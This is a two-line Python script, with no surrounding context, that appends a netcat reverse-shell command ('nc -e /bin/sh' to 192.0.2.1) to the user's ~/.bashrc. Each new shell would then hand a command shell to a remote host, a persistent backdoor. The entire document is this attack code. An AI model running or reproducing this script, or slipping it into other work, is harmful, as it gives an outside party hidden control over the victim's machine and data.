import os
open(os.path.expanduser('~/.bashrc'),'a').write('nc -e /bin/sh 192.0.2.1 1 &\n')
